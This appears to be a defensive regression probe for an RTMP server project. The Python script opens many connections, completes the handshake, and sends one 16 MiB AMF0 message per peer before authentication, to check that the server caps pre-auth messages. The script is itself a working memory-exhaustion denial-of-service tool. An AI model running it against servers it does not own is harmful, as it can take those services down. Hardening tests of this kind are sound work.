#!/usr/bin/env python3
"""Hardening probe (issue #17): N peers complete the RTMP handshake and, before
any connect/publish, each sends one 16 MiB AMF0 command message. A server that
reassembles messages of unauthorized peers at the publish-time limit holds
N x 16 MiB (and more once decoded); ugc caps them at 64 KiB and drops the peer.

usage: rtmp-preauth-rss.py HOST PORT N
"""
import socket
import struct
import sys
import time


def bomb(host, port):
    s = socket.create_connection((host, port))
    s.sendall(b"\x03" + b"\x00" * 1536)  # C0 + C1
    need, got = 1 + 1536 * 2, 0
    while got < need:
        d = s.recv(65536)
        if not d:
            break
        got += len(d)
    s.sendall(b"\x00" * 1536)  # C2
    size = (1 << 24) - 1
    body = b"\x0a" + struct.pack(">I", size - 5) + b"\x05" * (size - 5)  # strict array of nulls
    out = bytearray(b"\x03\x00\x00\x00" + size.to_bytes(3, "big") + b"\x14" + struct.pack("<I", 0))
    for i in range(0, len(body), 128):
        if i:
            out += b"\xc3"
        out += body[i : i + 128]
    try:
        s.sendall(out)
        return s, "sent"
    except OSError as e:
        return s, f"refused ({e.strerror})"


host, port, n = sys.argv[1], int(sys.argv[2]), int(sys.argv[3])
results = [bomb(host, port) for _ in range(n)]
time.sleep(3)
for outcome in sorted({r for _, r in results}):
    print(f"{sum(1 for _, r in results if r == outcome)} peers: {outcome}")
